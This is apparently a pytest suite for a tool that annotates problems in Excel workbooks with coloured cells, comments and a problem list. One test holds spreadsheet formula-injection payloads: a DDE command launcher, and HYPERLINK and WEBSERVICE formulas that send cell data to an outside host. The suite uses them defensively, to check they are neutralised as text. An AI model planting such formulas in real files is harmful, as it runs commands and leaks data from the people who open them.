from __future__ import annotations

from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from recommender.documents.marked import COLOURS, LIST_SHEET, marked_workbook
from recommender.problems import Problem, problems_frame
from recommender.types import Severity


def problem(**changed: str) -> Problem:
    fields = {
        "file": "a.xlsx", "sheet": "A", "cell": "B2", "code": "date_impossible", "message_vi": "Không có ngày.",
        "message_en": "No such day.", "value": "31/2/1985", "suggestion_vi": "Có phải 28/2/1985?",
        "suggestion_en": "Is it 28/2/1985?",
    }  # fmt: skip
    severity = Severity(changed.pop("severity", "error"))
    return Problem(severity=severity, **{**fields, **changed})


@pytest.fixture
def book(tmp_path: Path) -> Path:
    made = openpyxl.Workbook()
    sheet = made.active
    sheet.title = "A"
    sheet.append(["Họ và tên", "Ngày sinh"])
    sheet.append(["Trần Thị Hạnh", "31/2/1985"])
    sheet.append(["=SUM(1,2)", "x"])
    sheet.merge_cells("A4:B5")
    made.save(tmp_path / "a.xlsx")
    return tmp_path / "a.xlsx"


def marked(book: Path, *problems: Problem) -> openpyxl.Workbook:
    out = marked_workbook(book, problems_frame(problems), book.with_name("out.xlsx"))
    return openpyxl.load_workbook(out)


def test_a_problem_colours_its_cell_and_says_why(book: Path) -> None:
    cell = marked(book, problem())["A"]["B2"]
    assert cell.fill.fgColor.rgb == COLOURS[Severity.ERROR]
    assert cell.comment is not None
    assert cell.comment.text == "Không có ngày. Có phải 28/2/1985?"


def test_the_worst_problem_of_a_cell_gives_the_colour(book: Path) -> None:
    cell = marked(book, problem(severity="note"), problem(severity="warning"))["A"]["B2"]
    assert cell.fill.fgColor.rgb == COLOURS[Severity.WARNING]
    assert cell.comment is not None
    assert cell.comment.text.count("\n") == 1


def test_the_rest_of_the_workbook_stays(book: Path) -> None:
    sheet = marked(book, problem())["A"]
    assert [cell.value for cell in sheet[2]] == ["Trần Thị Hạnh", "31/2/1985"]
    assert sheet["A3"].value == "=SUM(1,2)"
    assert sheet["B3"].comment is None


def test_a_problem_inside_a_merged_cell_is_marked_at_its_corner(book: Path) -> None:
    assert marked(book, problem(cell="B5"))["A"]["A4"].comment is not None


def test_all_problems_of_the_file_are_listed_as_text(book: Path) -> None:
    made = marked(book, problem(cell="", value="=1+1"), problem(file="other.xlsx"))
    rows = list(made[LIST_SHEET].iter_rows(min_row=2))
    assert len(rows) == 1
    assert (rows[0][4].value, rows[0][4].data_type) == ("=1+1", "s")


@pytest.mark.parametrize(("name", "code"), [("a.xlsx", "file_bomb"), ("a.csv", "date_impossible")])
def test_refused_and_other_files_get_the_list_alone(tmp_path: Path, name: str, code: str) -> None:
    path = tmp_path / name
    path.write_bytes(b"not a workbook at all")
    out = marked_workbook(path, problems_frame([problem(file=name, code=code)]), tmp_path / "out.csv")
    made = openpyxl.load_workbook(out)
    assert out.suffix == ".xlsx"
    assert made.sheetnames == [LIST_SHEET]
    assert [cell.value for cell in made[LIST_SHEET][2]][:4] == [name, "A", "B2", "Lỗi"]


def test_a_file_without_problems_is_given_back_with_an_empty_list(book: Path) -> None:
    made = marked(book)
    assert pd.DataFrame(made[LIST_SHEET].values).shape[0] == 1


@pytest.mark.parametrize("formula", [
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/"&A2,"xem")', "=WEBSERVICE(A2)", "='[khác.xlsx]A'!B2",
    '=hyperlink ("\\\\may\\chia")',
])  # fmt: skip
def test_a_formula_that_reaches_outside_comes_back_as_text(book: Path, formula: str) -> None:
    made = openpyxl.load_workbook(book)
    made["A"]["C2"] = formula
    made.save(book)
    cell = marked(book, problem())["A"]["C2"]
    assert (cell.data_type, cell.value) == ("s", formula)


def test_a_sum_stays_a_formula(book: Path) -> None:
    assert marked(book, problem())["A"]["A3"].data_type == "f"


def test_a_file_stored_under_another_name_is_known_by_the_name_it_came_with(book: Path) -> None:
    out = marked_workbook(
        book, problems_frame((problem(file="cán bộ.xlsx"),)), book.with_name("out.xlsx"), name="cán bộ.xlsx",
        language="en",
    )  # fmt: skip
    comment = openpyxl.load_workbook(out)["A"]["B2"].comment
    assert comment is not None
    assert comment.text == "No such day. Is it 28/2/1985?"


def test_a_workbook_over_the_limit_comes_back_as_a_list(book: Path) -> None:
    out = marked_workbook(book, problems_frame((problem(),)), book.with_name("out.xlsx"), most_bytes=10)
    assert openpyxl.load_workbook(out).sheetnames == [LIST_SHEET]
